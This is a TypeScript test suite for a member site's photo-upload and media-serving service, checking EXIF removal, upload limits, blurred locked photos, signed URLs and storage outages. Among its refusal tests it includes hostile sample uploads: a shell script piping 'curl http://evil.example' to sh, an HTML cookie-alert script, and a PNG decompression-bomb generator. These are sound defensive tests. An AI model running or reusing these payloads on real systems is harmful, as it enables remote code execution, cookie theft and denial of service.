import { existsSync } from 'node:fs';
import { crc32, deflateSync } from 'node:zlib';
import sharp from 'sharp';
import request from 'supertest';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createLogger } from '../../lib/logger';
import { DEMO_LOGINS } from '../../seed/seed';
import { sweepOrphanProfilePhotos } from './service';
import { createTestContext, loginCookie, MEDIA_STORES, type MediaStoreKind, type TestContext } from '../../test/context';
import { sql } from '../../lib/db';

let ctx: TestContext;
let free: string;
let premium: string;
let freeId: number;
let premiumId: number;

async function idOf(email: string): Promise<number> {
  const [row] = await ctx.db.query<{ id: number }>(sql`SELECT id FROM users WHERE email = ${email}`);
  return row?.id as number;
}

describe.each(MEDIA_STORES)('photos with the %s store', (store: MediaStoreKind) => {
  beforeAll(async () => {
    ctx = await createTestContext({ members: 30, media: store });
    free = await loginCookie(ctx.app, DEMO_LOGINS.free);
    premium = await loginCookie(ctx.app, DEMO_LOGINS.premium);
    freeId = await idOf(DEMO_LOGINS.free);
    premiumId = await idOf(DEMO_LOGINS.premium);
  });
  afterAll(() => ctx?.close());

  const jpeg = (colour = '#c33', width = 64, height = 48) =>
    sharp({ create: { width, height, channels: 3, background: colour } })
      .jpeg()
      .toBuffer();

  /** A PNG whose header claims width×height pixels while the file stays tiny: a decompression bomb. */
  function pngBomb(width: number, height: number): Buffer {
    const chunk = (type: string, data: Buffer) => {
      const len = Buffer.alloc(4);
      len.writeUInt32BE(data.length);
      const body = Buffer.concat([Buffer.from(type, 'ascii'), data]);
      const crc = Buffer.alloc(4);
      crc.writeUInt32BE(crc32(body));
      return Buffer.concat([len, body, crc]);
    };
    const ihdr = Buffer.alloc(13);
    ihdr.writeUInt32BE(width, 0);
    ihdr.writeUInt32BE(height, 4);
    ihdr.writeUInt8(8, 8); // bit depth
    ihdr.writeUInt8(0, 9); // greyscale
    const rows = deflateSync(Buffer.alloc((width + 1) * 64)); // the first rows only; zeros compress to almost nothing
    return Buffer.concat([
      Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
      chunk('IHDR', ihdr),
      chunk('IDAT', rows),
      chunk('IEND', Buffer.alloc(0)),
    ]);
  }

  /** Collects a binary answer (supertest leaves image bodies unparsed otherwise). */
  const bytes = (r: request.Response, cb: (err: Error | null, body: Buffer) => void) => {
    const chunks: Buffer[] = [];
    r.on('data', (c: Buffer) => chunks.push(c));
    r.on('end', () => cb(null, Buffer.concat(chunks)));
  };

  const upload = (cookie: string, file: Buffer, name = 'photo.jpg', contentType = 'image/jpeg') =>
    request(ctx.app).post('/api/photos.php').set('cookie', cookie).attach('photo', file, { filename: name, contentType });

  async function clearPhotos(userId: number) {
    await ctx.db.query(sql`DELETE FROM photos WHERE user_id = ${userId}`);
  }

  describe('photo uploads', () => {
    it('When a visitor uploads, then 403 authentication_required', async () => {
      const res = await request(ctx.app)
        .post('/api/photos.php')
        .attach('photo', await jpeg(), 'a.jpg');
      expect(res.status).toBe(403);
    });

    it('When a member uploads a JPEG with GPS EXIF, then it is stored re-encoded under a random name, without any EXIF, in three variants', async () => {
      await clearPhotos(freeId);
      const withGps = await sharp({ create: { width: 80, height: 60, channels: 3, background: '#3a6' } })
        .jpeg()
        .withExif({
          IFD0: { Copyright: 'owner-secret' },
          IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '52/1 22/1 30/1', GPSLongitudeRef: 'E', GPSLongitude: '4/1 53/1 0/1' },
        })
        .toBuffer();
      expect((await sharp(withGps).metadata()).exif?.toString('latin1')).toContain('owner-secret');

      const res = await upload(free, withGps, 'holiday-amsterdam.jpg');
      expect(res.status).toBe(201);
      expect(res.body.limit).toBe(3);
      const [photo] = res.body.photos;
      expect(photo).toMatchObject({ status: 'pending', is_main: true, locked: false });
      expect(photo.match_path).not.toContain('holiday');
      expect(photo.match_path).toMatch(/^s\/\d{10}\/[\w-]{43}\/u\/[0-9a-f]{2}\/[0-9a-f]{32}-full\.jpg$/);

      const served = await request(ctx.app)
        .get(`/media/${photo.match_path}`)
        .buffer(true)
        .parse((r, cb) => {
          const chunks: Buffer[] = [];
          r.on('data', (c: Buffer) => chunks.push(c));
          r.on('end', () => cb(null, Buffer.concat(chunks)));
        });
      expect(served.status).toBe(200);
      expect(served.headers['x-content-type-options']).toBe('nosniff');
      const meta = await sharp(served.body as Buffer).metadata();
      expect(meta.format).toBe('jpeg');
      expect(meta.exif).toBeUndefined();
      expect((served.body as Buffer).toString('latin1')).not.toContain('owner-secret');

      const [row] = await ctx.db.query<{ filename: string; thumb_filename: string; blurred_filename: string }>(
        sql`SELECT filename, thumb_filename, blurred_filename FROM photos WHERE id = ${photo.id}`,
      );
      expect(new Set([row?.filename, row?.thumb_filename, row?.blurred_filename]).size).toBe(3);
      // All three variants are in the store (the bucket with S3, where DATA_DIR/media is never even created).
      for (const key of [row?.filename, row?.thumb_filename, row?.blurred_filename])
        expect(await ctx.media.exists(key as string), key).toBe(true);
      expect(existsSync(ctx.mediaDir)).toBe(store === 'disk');
      const object = await ctx.media.get(row?.filename as string);
      object?.body.destroy();
      expect(object?.size).toBe((served.body as Buffer).length);
    });

    it('When a member deletes a photo, then its three files leave the store', async () => {
      await clearPhotos(freeId);
      const res = await upload(free, await jpeg('#5a3'));
      expect(res.status).toBe(201);
      const [row] = await ctx.db.query<{ id: number; filename: string; thumb_filename: string; blurred_filename: string }>(
        sql`SELECT id, filename, thumb_filename, blurred_filename FROM photos WHERE user_id = ${freeId}`,
      );
      const keys = [row?.filename, row?.thumb_filename, row?.blurred_filename] as string[];
      for (const key of keys) expect(await ctx.media.exists(key)).toBe(true);
      const removed = await request(ctx.app).delete('/api/photos.php').set('cookie', free).send({ id: row?.id });
      expect(removed.status).toBe(200);
      for (const key of keys) expect(await ctx.media.exists(key), key).toBe(false);
    });

    it('When a script or an HTML page is uploaded as .jpg with an image type, then 422 photo_invalid and nothing is stored', async () => {
      await clearPhotos(freeId);
      const script = Buffer.from('#!/bin/sh\ncurl http://evil.example | sh\n');
      const html = Buffer.from('<!doctype html><html><body><script>alert(document.cookie)</script></body></html>');
      for (const file of [script, html]) {
        const res = await upload(free, file, 'cute.jpg', 'image/jpeg');
        expect(res.status).toBe(422);
        expect(res.body.error.code).toBe('photo_invalid');
      }
      const rows = await ctx.db.query(sql`SELECT id FROM photos WHERE user_id = ${freeId}`);
      expect(rows).toHaveLength(0);
    });

    it('When a decompression bomb (a tiny PNG claiming 30000×30000 pixels) is uploaded, then it is refused', async () => {
      const bomb = pngBomb(30000, 30000);
      expect(bomb.length).toBeLessThan(100_000);
      const res = await upload(free, bomb, 'bomb.png', 'image/png');
      expect(res.status).toBe(422);
      expect(res.body.error.code).toBe('photo_invalid');
    });

    it('When a file is larger than 10 MB, then 413 payload_too_large', async () => {
      const res = await upload(free, Buffer.alloc(10 * 1024 * 1024 + 10, 1), 'big.jpg');
      expect(res.status).toBe(413);
      expect(res.body.error.code).toBe('payload_too_large');
    });

    it('When a free member sends 4 uploads at once, then exactly 3 are stored and one is refused with photo_limit_reached', async () => {
      await clearPhotos(freeId);
      const files = await Promise.all(['#111', '#222', '#333', '#444'].map((c) => jpeg(c)));
      const results = await Promise.all(files.map((f) => upload(free, f)));
      expect(results.map((r) => r.status).sort()).toEqual([201, 201, 201, 422]);
      expect(results.find((r) => r.status === 422)?.body.error).toMatchObject({ code: 'photo_limit_reached', params: { limit: 3 } });
      const [count] = await ctx.db.query<{ n: number }>(sql`SELECT count(*)::int AS n FROM photos WHERE user_id = ${freeId}`);
      expect(count?.n).toBe(3);
      const main = await ctx.db.query(sql`SELECT id FROM photos WHERE user_id = ${freeId} AND is_main`);
      expect(main).toHaveLength(1);
      const fourth = await upload(free, await jpeg('#555'));
      expect(fourth.status).toBe(422);
    });

    it('When a premium member uploads, then the limit is 25', async () => {
      const res = await upload(premium, await jpeg('#999'));
      expect(res.status).toBe(201);
      expect(res.body.limit).toBe(25);
    });

    it('When the owner picks a main photo and deletes one, then main moves; another member gets 404 for both', async () => {
      const mine = await request(ctx.app).get('/api/my-profile.php').set('cookie', free);
      const [first, second] = mine.body.profile.photos as { id: number; is_main: boolean }[];
      expect(first?.is_main).toBe(true);

      expect((await request(ctx.app).put('/api/photos.php').set('cookie', premium).send({ id: second?.id })).status).toBe(404);
      expect((await request(ctx.app).delete('/api/photos.php').set('cookie', premium).send({ id: second?.id })).status).toBe(404);

      const main = await request(ctx.app).put('/api/photos.php').set('cookie', free).send({ id: second?.id });
      expect(main.status).toBe(200);
      expect(main.body.photos[0]).toMatchObject({ id: second?.id, is_main: true });

      const del = await request(ctx.app).delete('/api/photos.php').set('cookie', free).send({ id: second?.id });
      expect(del.status).toBe(200);
      expect(del.body.photos).toHaveLength(2);
      expect(del.body.photos.filter((p: { is_main: boolean }) => p.is_main)).toHaveLength(1);
      expect(del.body.photos.map((p: { id: number }) => p.id)).not.toContain(second?.id);
    });

    it('When another member or a visitor opens a profile with a pending photo, then the photo is not there; the owner sees it', async () => {
      const other = await request(ctx.app).get('/api/profile.php').query({ id: freeId }).set('cookie', premium);
      expect(other.status).toBe(200);
      expect(other.body.profile.images).toHaveLength(0);
      expect(other.body.profile.main_image).toBeNull();
      const visitor = await request(ctx.app).get('/api/profile.php').query({ id: freeId });
      expect(visitor.body.profile.images).toHaveLength(0);
      const own = await request(ctx.app).get('/api/profile.php').query({ id: freeId }).set('cookie', free);
      expect(own.body.profile.images.length).toBe(2);
      expect(own.body.profile.main_image).not.toBeNull();
    });
  });

  describe('who sees which photo', () => {
    let galleryId: number;
    let files: { filename: string; thumb_filename: string; blurred_filename: string; is_main: boolean }[];

    beforeAll(async () => {
      const [row] = await ctx.db.query<{ user_id: number }>(
        sql`SELECT ph.user_id FROM photos ph JOIN users u ON u.id = ph.user_id JOIN profiles p ON p.user_id = u.id
         WHERE ph.status = 'approved' AND u.status = 'active' AND p.status = 'active' AND NOT p.invisible AND u.id NOT IN (${freeId}, ${premiumId})
         GROUP BY ph.user_id HAVING count(*) >= 3 ORDER BY ph.user_id LIMIT 1`,
      );
      galleryId = row?.user_id as number;
      files = await ctx.db.query(sql`SELECT filename, thumb_filename, blurred_filename, is_main FROM photos WHERE user_id = ${galleryId}`);
    });

    const sharpFilesOfLockedPhotos = () => files.filter((f) => !f.is_main).flatMap((f) => [f.filename, f.thumb_filename]);

    it('When a free member or a visitor opens a gallery, then only the main photo is sharp and the body holds no sharp URL of the others', async () => {
      for (const cookie of [free, undefined]) {
        const req = request(ctx.app).get('/api/profile.php').query({ id: galleryId });
        const res = cookie ? await req.set('cookie', cookie) : await req;
        expect(res.status).toBe(200);
        const images = res.body.profile.images as { locked: boolean; match_path: string }[];
        expect(images.length).toBeGreaterThanOrEqual(3);
        expect(images.filter((i) => !i.locked)).toHaveLength(1);
        const text = JSON.stringify(res.body);
        // Locked photos of the seed reuse shared avatars: a file may be sharp as someone's main. Compare by path.
        const mainFiles = files.filter((f) => f.is_main).flatMap((f) => [f.filename, f.thumb_filename]);
        for (const file of sharpFilesOfLockedPhotos().filter((f) => !mainFiles.includes(f))) expect(text).not.toContain(file);
        for (const image of images.filter((i) => i.locked)) expect(image.match_path).toMatch(/-blur\.jpg$/);
      }
    });

    it('When a free member fetches a locked photo, then the store serves its blurred variant, not the sharp file', async () => {
      const res = await request(ctx.app).get('/api/profile.php').query({ id: galleryId }).set('cookie', free);
      const locked = (res.body.profile.images as { locked: boolean; match_path: string }[]).find((i) => i.locked);
      const blurred = files.find((f) => !f.is_main);
      expect(locked && blurred).toBeTruthy();
      const served = await request(ctx.app).get(`/media/${locked?.match_path}`).set('cookie', free).buffer(true).parse(bytes);
      expect(served.status).toBe(200);
      expect(served.headers['cache-control']).toBe('public, max-age=3600');
      const read = async (key: string) => {
        const object = await ctx.media.get(key);
        const chunks: Buffer[] = [];
        for await (const chunk of object?.body ?? []) chunks.push(chunk as Buffer);
        return Buffer.concat(chunks);
      };
      expect((served.body as Buffer).equals(await read(blurred?.blurred_filename as string))).toBe(true);
      expect((served.body as Buffer).equals(await read(blurred?.filename as string))).toBe(false);
    });

    it('When a premium member opens the same gallery, then every photo is sharp', async () => {
      const res = await request(ctx.app).get('/api/profile.php').query({ id: galleryId }).set('cookie', premium);
      const images = res.body.profile.images as { locked: boolean; match_path: string }[];
      expect(images.every((i) => !i.locked && !i.match_path.endsWith('-blur.jpg'))).toBe(true);
    });

    it('When a free member loads members, likes, chats, the user and a profile, then every photo path in the answers is signed', async () => {
      for (const path of [
        '/api/members.php?limit=60',
        '/api/likes.php',
        '/api/chats.php',
        '/api/user.php',
        `/api/profile.php?id=${galleryId}`,
      ]) {
        const res = await request(ctx.app).get(path).set('cookie', free).set('request-type', 'client');
        expect(res.status).toBe(200);
        const text = JSON.stringify(res.body);
        expect(text).not.toMatch(/"(?:filename|thumb_filename|match_path)":"(?!s\/)/);
      }
    });
  });

  describe('signed photo URLs', () => {
    let url: string;
    beforeAll(async () => {
      const res = await request(ctx.app).get('/api/members.php').query({ limit: 60 });
      url = (res.body.profiles as { main_image: { match_path: string } | null }[]).find((p) => p.main_image)?.main_image
        ?.match_path as string;
    });

    it('When the signed URL is fetched, then the photo is served with nosniff', async () => {
      const res = await request(ctx.app).get(`/media/${url}`);
      expect(res.status).toBe(200);
      expect(res.headers['x-content-type-options']).toBe('nosniff');
      expect(res.headers['content-type']).toBe('image/jpeg');
    });

    it('When the signature, the expiry or the file of a URL is changed, then 403 media_url_invalid', async () => {
      const [, expiry, sig, ...file] = url.split('/');
      const tampered = [
        `s/${expiry}/${(sig as string).replace(/^./, (c) => (c === 'A' ? 'B' : 'A'))}/${file.join('/')}`,
        `s/${Number(expiry) + 3600}/${sig}/${file.join('/')}`,
        `s/${expiry}/${sig}/${file.join('/').replace('.jpg', '-blur.jpg')}`,
      ];
      for (const t of tampered) {
        const res = await request(ctx.app).get(`/media/${t}`);
        expect(res.status).toBe(403);
        expect(res.body.error.code).toBe('media_url_invalid');
      }
    });

    it('When an expired URL or the stored path itself is asked for, then it is refused', async () => {
      const { createMediaSigner, loadMediaKey } = await import('./signing');
      const signer = createMediaSigner(await loadMediaKey(ctx.db));
      const file = url.split('/').slice(3).join('/');
      const old = signer.sign(file, Date.now() - 3 * 3600_000);
      expect((await request(ctx.app).get(`/media/${old}`)).status).toBe(403);
      expect((await request(ctx.app).get(`/media/${signer.sign(file)}`)).status).toBe(200);
      expect((await request(ctx.app).get(`/media/${file}`)).status).toBe(404);
    });
  });

  describe('photo uploads with an Idempotency-Key', () => {
    const photoCount = async (userId: number) =>
      (await ctx.db.query<{ n: number }>(sql`SELECT count(*)::int AS n FROM photos WHERE user_id = ${userId}`))[0]?.n ?? 0;

    it('When an upload is retried with its key, then the photo is stored once and the retry replays the answer with fresh signed URLs', async () => {
      await clearPhotos(premiumId);
      const file = await jpeg('#2a6');
      const key = '6a1d0c3e-1111-4000-8000-00000000000a';
      const first = await upload(premium, file).set('idempotency-key', key);
      const again = await upload(premium, file).set('idempotency-key', key);
      expect([first.status, again.status]).toEqual([201, 201]);
      expect(again.headers['idempotent-replayed']).toBe('true');
      expect(again.body.photos.map((p: { id: number }) => p.id)).toEqual(first.body.photos.map((p: { id: number }) => p.id));
      expect(await photoCount(premiumId)).toBe(1);
      const replayedUrl: string = again.body.photos[0].thumb_filename;
      expect(
        (
          await request(ctx.app)
            .get(`/media/${replayedUrl.split('/media/')[1] ?? replayedUrl}`)
            .set('cookie', premium)
        ).status,
      ).toBe(200);
      const other = await upload(premium, await jpeg('#26a')).set('idempotency-key', key);
      expect(other.status).toBe(422);
      expect(other.body.error.code).toBe('idempotency_key_reused');
      expect(await photoCount(premiumId)).toBe(1);
    });

    it('When the keyed upload is refused (not an image), then the key is released and a real photo with the same key is stored', async () => {
      await clearPhotos(premiumId);
      const key = '6a1d0c3e-1111-4000-8000-00000000000b';
      const refused = await upload(premium, Buffer.from('not an image at all'), 'x.jpg').set('idempotency-key', key);
      expect(refused.status).toBe(422);
      expect(refused.body.error.code).toBe('photo_invalid');
      const stored = await upload(premium, await jpeg('#a62')).set('idempotency-key', key);
      expect(stored.status).toBe(201);
      expect(await photoCount(premiumId)).toBe(1);
    });
  });

  describe('the profile-photo sweep', () => {
    const silent = createLogger('silent');

    it('When the sweep runs, then it deletes old objects under u/ that no photo row names, and never a live photo, a new object or an unknown name', async () => {
      await clearPhotos(premiumId);
      const res = await upload(premium, await jpeg('#4a4'));
      expect(res.status).toBe(201);
      const [live] = await ctx.db.query<{ filename: string; thumb_filename: string; blurred_filename: string }>(
        sql`SELECT filename, thumb_filename, blurred_filename FROM photos WHERE user_id = ${premiumId}`,
      );
      const base = `u/ef/ef${'5'.repeat(30)}`;
      const orphans = [`${base}-full.jpg`, `${base}-thumb.jpg`, `${base}-blur.jpg`];
      for (const key of [...orphans, 'u/ef/notes.txt']) await ctx.media.put(key, Buffer.from('x'));
      await sweepOrphanProfilePhotos(ctx.db, ctx.media, silent);
      for (const key of orphans) expect(await ctx.media.exists(key), key).toBe(true);
      await sweepOrphanProfilePhotos(ctx.db, ctx.media, silent, { now: Date.now() + 2 * 3600_000 });
      for (const key of orphans) expect(await ctx.media.exists(key), key).toBe(false);
      for (const key of [live?.filename, live?.thumb_filename, live?.blurred_filename])
        expect(await ctx.media.exists(key as string), key).toBe(true);
      expect(await ctx.media.exists('u/ef/notes.txt')).toBe(true);
      expect(await ctx.media.exists('avatars/avatar-01.jpg')).toBe(true);
      await ctx.media.remove('u/ef/notes.txt');
    });
  });

  describe.runIf(store === 's3')('when the store is down', () => {
    const photoCount = async (userId: number) =>
      (await ctx.db.query<{ n: number }>(sql`SELECT count(*)::int AS n FROM photos WHERE user_id = ${userId}`))[0]?.n ?? 0;

    it('When a member uploads while the bucket cannot be reached, then 503 media_store_unavailable in his language, no row, the key released; once it is back, the same upload is stored and earlier photos are still served', async () => {
      await clearPhotos(premiumId);
      const before = await upload(premium, await jpeg('#6a2'));
      expect(before.status).toBe(201);
      const earlier: string = before.body.photos[0].match_path;
      const key = '6a1d0c3e-1111-4000-8000-00000000000c';
      await ctx.s3?.stop();
      try {
        const res = await upload(premium, await jpeg('#62a'))
          .set('idempotency-key', key)
          .set('accept-language', 'de');
        expect(res.status).toBe(503);
        expect(res.headers['retry-after']).toBe('30');
        expect(res.body.error.code).toBe('media_store_unavailable');
        expect(res.body.error.message).toMatch(/^Fotos können gerade nicht gespeichert oder angezeigt werden/);
        expect(await photoCount(premiumId)).toBe(1);
        const media = await request(ctx.app).get(`/media/${earlier}`).set('accept-language', 'fr');
        expect(media.status).toBe(503);
        expect(media.body.error.code).toBe('media_store_unavailable');
      } finally {
        await ctx.s3?.start();
      }
      const again = await upload(premium, await jpeg('#62a')).set('idempotency-key', key);
      expect(again.status).toBe(201);
      expect(again.headers['idempotent-replayed']).toBeUndefined();
      expect(await photoCount(premiumId)).toBe(2);
      expect((await request(ctx.app).get(`/media/${earlier}`)).status).toBe(200);
    });

    it('When a member deletes a photo while the bucket cannot be reached, then the deletion stands and the sweep removes its files once the store is back', async () => {
      await clearPhotos(freeId);
      const res = await upload(free, await jpeg('#a4a'));
      expect(res.status).toBe(201);
      const [row] = await ctx.db.query<{ id: number; filename: string; thumb_filename: string; blurred_filename: string }>(
        sql`SELECT id, filename, thumb_filename, blurred_filename FROM photos WHERE user_id = ${freeId}`,
      );
      const keys = [row?.filename, row?.thumb_filename, row?.blurred_filename] as string[];
      await ctx.s3?.stop();
      try {
        const removed = await request(ctx.app).delete('/api/photos.php').set('cookie', free).send({ id: row?.id });
        expect(removed.status).toBe(200);
        expect(removed.body.photos).toEqual([]);
      } finally {
        await ctx.s3?.start();
      }
      for (const key of keys) expect(await ctx.media.exists(key), key).toBe(true);
      await sweepOrphanProfilePhotos(ctx.db, ctx.media, createLogger('silent'), { now: Date.now() + 2 * 3600_000 });
      for (const key of keys) expect(await ctx.media.exists(key), key).toBe(false);
    });
  });
});
